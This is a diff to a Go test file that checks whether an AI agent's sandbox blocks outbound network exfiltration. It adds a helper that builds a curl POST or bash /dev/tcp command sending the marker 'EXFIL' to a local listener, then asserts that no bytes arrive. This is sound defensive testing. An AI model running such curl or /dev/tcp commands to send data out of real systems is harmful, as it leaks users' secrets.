@@ -57,6 +57,14 @@ func newSink(t *testing.T) *sink {
 
 func (s *sink) url() string { return "http://" + s.ln.Addr().String() + "/" }
 
+// send is a command that posts EXFIL to the sink: curl, or bash's own
+// /dev/tcp where curl is not installed.
+func (s *sink) send() string {
+	host, port, _ := net.SplitHostPort(s.ln.Addr().String())
+	return "if command -v curl >/dev/null; then curl -sS --max-time 5 --data EXFIL " + s.url() +
+		"; else exec 3<>/dev/tcp/" + host + "/" + port + " && printf EXFIL >&3; fi"
+}
+
 // containLab is a fake home outside /tmp (so that every backend shows it)
 // holding secrets, the agent's state and a git workspace, served by the
 // default composition confined by one backend; permission requests are
@@ -171,7 +179,7 @@ func TestContainedNetwork(t *testing.T) {
 			l := newContainLab(t, b, false)
 			s := newSink(t)
 			sid := l.srv.newSession(t, l.ws).SessionID
-			curl := "curl -sS --max-time 5 --data EXFIL " + s.url()
+			curl := s.send()
 			r := l.call(t, sid, "plain", "bash", map[string]any{"command": curl, "description": "send"})
 			assert.Zero(t, s.conns.Load(), r.text())
 			assert.Zero(t, s.bytes.Load())
@@ -310,7 +318,7 @@ func TestContainedNetworkInTheEditorsTerminal(t *testing.T) {
 	s := serveClient(t, "default", openStore(t, store), project, p, acpclient.Options{Terminals: terms}, nil)
 	sid := s.newSession(t, project).SessionID
 	sk := newSink(t)
-	args, _ := json.Marshal(map[string]string{"command": "curl -sS --max-time 5 --data EXFIL " + sk.url(), "description": "send"})
+	args, _ := json.Marshal(map[string]string{"command": sk.send(), "description": "send"})
 	p.script("send", toolCall{Name: "bash", Args: string(args)})
 	s.prompt(t, sid, "send")
 	awaitReleased(t, terms)
